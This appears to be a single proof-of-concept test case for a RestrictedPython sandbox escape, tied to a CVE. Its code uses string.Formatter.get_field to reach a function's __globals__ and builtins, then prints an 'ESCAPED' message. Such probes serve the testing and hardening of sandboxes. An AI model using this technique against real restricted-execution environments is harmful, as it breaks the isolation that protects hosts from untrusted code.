# technique: string.Formatter.get_field: trusted code reads the attribute
# goal: globals
# source: RestrictedPython, CVE-2026-76825
import json
import string
g, _ = string.Formatter().get_field('0.__globals__', [json.dumps], {})
if '__builtins__' in g:
    print('ESCAPED globals of', g['__name__'])
